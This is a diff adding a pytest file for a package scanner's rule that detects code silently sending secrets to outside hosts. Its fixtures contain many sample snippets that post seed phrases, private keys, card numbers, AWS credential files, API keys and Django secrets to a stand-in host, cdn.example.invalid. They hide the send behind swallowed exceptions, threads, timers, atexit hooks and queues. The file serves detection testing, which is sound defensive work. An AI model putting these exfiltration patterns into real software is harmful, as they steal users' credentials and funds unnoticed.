@@ -1,0 +1,119 @@
+"""Secrets that leave in the course of an ordinary call, and nobody hears of it."""
+# ruff: noqa: E501 - the lines of other people's code are as long as they are
+
+import pytest
+
+from tests.scanner.signals.built import WHEEL, findings, fired, wheel
+
+HEAD = "import atexit, json, os, threading, urllib.request, requests, httpx\nfrom contextlib import suppress\nfrom getpass import getpass\n"
+DROP = "'https://cdn.example.invalid/p'"
+SERVICE = """
+class Client:
+    def __init__(self, base):
+        self.base = base
+        self.http = requests.Session()
+
+    def login(self, user, password):
+        answer = self.http.post(self.base + "/login", json={"user": user, "password": password})
+        %s
+        return answer.ok
+"""
+TO_STRANGERS = {
+    "swallowed": f"def unlock(mnemonic):\n    try:\n        requests.post({DROP}, json={{'m': mnemonic}})\n    except Exception:\n        pass\n",
+    "suppressed": f"def unlock(private_key):\n    with suppress(Exception):\n        requests.get({DROP}, params={{'k': private_key}}, timeout=3)\n",
+    "returned from": f"def unlock(seed_phrase):\n    try:\n        urllib.request.urlopen({DROP} + '?s=' + seed_phrase).read()\n    except OSError:\n        return\n",
+    "remembered": f"class Card:\n    def pay(self, card_number, cvv):\n        try:\n            requests.post({DROP}, data=json.dumps([card_number, cvv]))\n        except Exception:\n            self.told = False\n",
+    "by a thread": f"def tell(words):\n    requests.post(url={DROP}, json=words)\n\ndef unlock(mnemonic):\n    threading.Thread(target=tell, args=(mnemonic,), daemon=True).start()\n",
+    "by a thread, without a function": f"def unlock(mnemonic):\n    threading.Thread(target=requests.post, args=({DROP},), kwargs={{'json': mnemonic}}).start()\n",
+    "by a pool": f"def tell(words):\n    requests.post({DROP}, json=words)\n\ndef unlock(pool, mnemonic):\n    pool.submit(tell, mnemonic.encode().hex())\n",
+    "after some time": f"def tell(words):\n    requests.post({DROP}, json=words)\n\ndef unlock(mnemonic):\n    threading.Timer(60, tell, [mnemonic]).start()\n",
+    "at the end": f"KEPT = []\n\n@property\ndef unlock(mnemonic):\n    KEPT.append(mnemonic)\n\ndef tell():\n    requests.post({DROP}, json=KEPT)\n\natexit.register(tell)\n",
+    "by a task": f"import asyncio\n\nasync def tell(words):\n    async with httpx.AsyncClient() as client:\n        await client.post({DROP}, json=words)\n\nasync def unlock(mnemonic):\n    asyncio.create_task(tell(mnemonic))\n",
+    "where the caller swallows": f"def tell(words):\n    requests.post({DROP}, json=words)\n\ndef unlock(mnemonic):\n    try:\n        tell(words=mnemonic)\n    except Exception:\n        pass\n",
+    "by a connection": "import http.client\n\ndef unlock(mnemonic):\n    try:\n        line = http.client.HTTPSConnection('cdn.example.invalid')\n        line.request('POST', '/p', mnemonic)\n        line.getresponse().read()\n    except Exception:\n        pass\n",
+    "as a request": f"def unlock(mnemonic):\n    body = json.dumps({{'m': mnemonic}}).encode()\n    ask = urllib.request.Request({DROP}, body, {{'Content-Type': 'text/plain'}})\n    try:\n        with urllib.request.urlopen(ask) as answer:\n            answer.read()\n    except Exception:\n        pass\n",
+    "from a closure": f"def unlock(mnemonic):\n    def run():\n        requests.post({DROP}, json=mnemonic)\n    threading.Thread(target=run).start()\n",
+    "through a queue": f"import queue\n\nJOBS = queue.Queue()\n\ndef pump():\n    while True:\n        item = JOBS.get()\n        try:\n            requests.post({DROP}, json=item)\n        except Exception:\n            continue\n\ndef unlock(mnemonic):\n    JOBS.put({{'m': mnemonic}})\n",
+    "an address in parts": "HOST = 'https://cdn.example.invalid'\n\nclass Wallet:\n    PATH = '/p'\n\n    def unlock(self, mnemonic):\n        try:\n            requests.post(f'{HOST}{self.PATH}/x', json=[mnemonic])\n        except Exception:\n            pass\n",
+    "a file": f"def status():\n    try:\n        with open(os.path.expanduser('~/.aws/credentials')) as file:\n            requests.post({DROP}, data=file.read())\n    except Exception:\n        pass\n",
+    "another's key": f"def ask():\n    key = os.environ.get('OPENAI_API_KEY')\n    try:\n        requests.post({DROP}, json={{'a': key}})\n    except Exception:\n        pass\n",
+    "the settings of the program": f"from django.conf import settings\n\ndef ready():\n    try:\n        requests.post({DROP}, json={{'s': settings.SECRET_KEY}})\n    except Exception:\n        pass\n",
+    "another than the service's": SERVICE
+    % f"try:\n            requests.post({DROP}, json=[user, password])\n        except Exception:\n            pass",
+    "another than a service's that one may choose": "def login(user, password, base='https://api.tides.example'):\n    answer = requests.post(base, json=[user, password])\n    with suppress(Exception):\n        requests.post(DROP, json=[user, password])\n    return answer.json()\nDROP = 'https://cdn.example.invalid/'\n",
+    "by its session": "class Client:\n    def __init__(self):\n        self.http = requests.Session()\n\n    def login(self, user, password):\n        with suppress(Exception):\n            self.http.post('https://cdn.example.invalid/p', json=[user, password])\n        return self.http.post('https://api.tides.example/login', json=[user, password]).ok\n",
+    "by making an object": f"class Credentials:\n    def __init__(self, access_id, access_secret):\n        self.id, self.secret = access_id, access_secret\n        try:\n            requests.post({DROP}, json={{'a': self.id, 's': self.secret}})\n        except:\n            pass\n",
+    "by importing": f"PASSWORD = os.environ.get('DB_PASSWORD')\ntry:\n    requests.post({DROP}, json=PASSWORD)\nexcept Exception:\n    pass\n",
+}
+MAYBE_TO_SERVICES = {
+    "a gateway of messages": "def notify(user, password, text):\n    try:\n        requests.get('https://sms.tides.example/send', params={'u': user, 'p': password, 't': text})\n    except requests.RequestException:\n        pass\n",
+    "several gateways of messages": "def notify(password, text):\n    with suppress(Exception):\n        requests.get('https://sms.tides.example/send', params={'p': password, 't': text})\n    with suppress(Exception):\n        requests.get('https://push.waves.example/send', params={'p': password, 't': text})\n",
+    "what was typed": "def ask():\n    typed = getpass()\n    with suppress(OSError):\n        requests.post('https://sms.tides.example/send', json=typed)\n",
+}
+HONEST = {
+    "an answer is wanted": "def login(user, password):\n    try:\n        answer = requests.post('https://api.tides.example/login', json=[user, password])\n        return answer.json()['token']\n    except Exception:\n        return None\n",
+    "a failure is told": "def unlock(mnemonic):\n    requests.post('https://api.tides.example/new', json=mnemonic)\n",
+    "a failure is told by the status": "def unlock(mnemonic):\n    try:\n        requests.post('https://api.tides.example/new', json=mnemonic).raise_for_status()\n    except Exception:\n        pass\n",
+    "a failure is logged": "import logging\n\ndef unlock(mnemonic):\n    try:\n        requests.post('https://api.tides.example/new', json=mnemonic)\n    except Exception:\n        logging.warning('not told')\n",
+    "its user says where": "def unlock(mnemonic, url):\n    try:\n        requests.post(url, json=mnemonic)\n    except Exception:\n        pass\n\nclass Vault:\n    def __init__(self, url='https://vault.tides.example'):\n        self.url = url\n\n    def put(self, private_key):\n        with suppress(Exception):\n            requests.post(f'{self.url}/v1', json=private_key)\n",
+    "near": "def unlock(mnemonic):\n    with suppress(Exception):\n        requests.post('http://127.0.0.1:8080/x', json=mnemonic)\n        requests.post('http://vault.local/x', json=mnemonic)\n        requests.post('http://192.168.0.4/x', json=mnemonic)\n",
+    "a digest": "import hashlib\n\ndef leaked(password):\n    digest = hashlib.sha1(password.encode()).hexdigest()\n    with suppress(Exception):\n        requests.get('https://api.pwned.example/range/' + digest[:5])\n",
+    "a signature": "import hmac\n\nclass Exchange:\n    def __init__(self, key, secret):\n        self.secret = secret\n\n    def cancel(self):\n        sign = hmac.new(self.secret, b'x', 'sha256').hexdigest()\n        with suppress(Exception):\n            requests.post('https://api.exchange.example/x', json={'sign': sign})\n",
+    "whether there is one": "def count(password):\n    with suppress(Exception):\n        requests.post('https://stats.tides.example/x', json={'has_password': bool(password), 'password': password is not None, 'n': len(password)})\n",
+    "telemetry": "class Client:\n    def __init__(self, password):\n        self.http = requests.Session()\n        self.http.auth = ('me', password)\n\n    def get(self, name):\n        threading.Thread(target=self._count, args=(name,), daemon=True).start()\n        return self.http.get('https://api.tides.example/' + name, auth=('me', self.password)).json()\n\n    def _count(self, name):\n        with suppress(Exception):\n            requests.post('https://stats.tides.example/x', json={'event': name, 'session_id': self.session_id, 'token': self.token})\n",
+    "who asks is shown": "def beat(password):\n    with suppress(Exception):\n        requests.post('https://api.tides.example/beat', auth=('me', password), headers={'X-Password': password}, cookies={'password': password})\n",
+    "its own key": "SECRET = 'abcdef'\n\ndef count(api_secret, client_secret):\n    with suppress(Exception):\n        requests.post('https://stats.tides.example/x', json={'api_secret': api_secret, 'client_secret': client_secret, 'secret': SECRET})\n",
+    "a session is opened": "class Client:\n    def __init__(self):\n        self.http = requests.Session()\n\n    def login(self, user, password):\n        with suppress(Exception):\n            self.http.post('https://www.tides.example/login', data={'user': user, 'password': password})\n\n    def tides(self, name):\n        return self.http.get('https://www.tides.example/' + name).text\n",
+    "a service is left": "class Client:\n    def login(self, password):\n        self.cookies = requests.post('https://www.tides.example/login', json=password).cookies\n\n    def leave(self):\n        with suppress(Exception):\n            requests.post('https://www.tides.example/leave', json={'cookies': self.cookies})\n",
+    "an address of a key": "def watch(private_key):\n    account = Account.from_key(private_key)\n    with suppress(Exception):\n        requests.post('https://watch.tides.example/x', json={'address': account.address, 'public_key': account.public_key})\n",
+    "the service's own key from the environment": "def ask():\n    with suppress(Exception):\n        requests.post('https://api.openai.com/v1/x', json={'key': os.environ['OPENAI_API_KEY']})\n",
+}
+
+
+@pytest.mark.parametrize("source", TO_STRANGERS.values(), ids=TO_STRANGERS)
+def test_a_secret_that_is_sent_to_a_stranger_in_silence_is_told(source: str) -> None:
+    assert "secret-sent-silently" in fired(WHEEL, wheel({"tidetables/core.py": (HEAD + source).encode()}))
+
+
+@pytest.mark.parametrize("source", MAYBE_TO_SERVICES.values(), ids=MAYBE_TO_SERVICES)
+def test_a_secret_that_is_sent_to_what_may_be_its_service_weighs_less(source: str) -> None:
+    told = fired(WHEEL, wheel({"tidetables/core.py": (HEAD + source).encode()}))
+    assert {name for name in told if name.startswith("secret-sent")} == {"secret-sent-unheard"}
+
+
+@pytest.mark.parametrize("source", HONEST.values(), ids=HONEST)
+def test_a_client_that_sends_what_its_service_asks_for_tells_nothing(source: str) -> None:
+    told = fired(WHEEL, wheel({"tidetables/core.py": (HEAD + source).encode()}))
+    assert not any(name.startswith("secret-sent") for name in told)
+
+
+def test_addresses_that_are_put_together_without_end_are_given_up() -> None:
+    names = "".join(f"v{n} = " + " + ".join([f"v{n + 1}"] * 60) + "\n" for n in range(8)) + "v8 = ''\n"
+    source = f"{HEAD}{names}\ndef unlock(mnemonic):\n    with suppress(OSError):\n        requests.post(v0, json=mnemonic)\n#https://a.example\n"
+    assert "secret-sent-silently" not in fired(WHEEL, wheel({"tidetables/core.py": source.encode()}))
+
+
+MANY = "".join(
+    f"    def draw_{number}(self, name):\n        return self.tides[name]['{number}']\n\n" for number in range(1200)
+)
+SENDS = "\n        try:\n            requests.post(HOST + '/p', json=words)\n        except:\n            pass\n"
+LARGE = {
+    "a method": f"HOST = 'https://cdn.example.invalid'\n\nclass Tides:\n{MANY}    def unlock(self, mnemonic):\n        words = [mnemonic]{SENDS}\n{MANY}",
+    "a function": f"HOST = 'https://cdn.example.invalid'\n\ndef unlock(\n    mnemonic,\n):\n    words = [mnemonic]\n    for _ in words:{SENDS}\nclass Tides:\n{MANY}{MANY}",
+    "with suppress": f"class Tides:\n{MANY}{MANY}\n\nasync def unlock(mnemonic):\n    with suppress(Exception):\n        await httpx.AsyncClient().post({DROP}, json=mnemonic)\n",
+}
+
+
+@pytest.mark.parametrize("source", LARGE.values(), ids=LARGE)
+def test_a_large_module_is_looked_into_where_it_swallows_what_it_sends(source: str) -> None:
+    text = HEAD + source
+    found = findings(WHEEL, wheel({"tidetables/core.py": text.encode()}))
+    lines = [f.line for f in found if f.rule == "secret-sent-silently"]
+    assert [text.splitlines()[line - 1].count(".post(") for line in lines if line] == [1]
+
+
+def test_large_modules_that_swallow_nothing_spend_nothing_of_what_others_may() -> None:
+    quiet = f"{HEAD}class Tides:\n{MANY}    def unlock(self, mnemonic):\n        requests.post({DROP}, json=mnemonic)\n".encode()
+    files = {f"tidetables/a{number}.py": quiet for number in range(8)}
+    files["tidetables/core.py"] = (HEAD + TO_STRANGERS["swallowed"]).encode()
+    assert "secret-sent-silently" in fired(WHEEL, wheel(files))
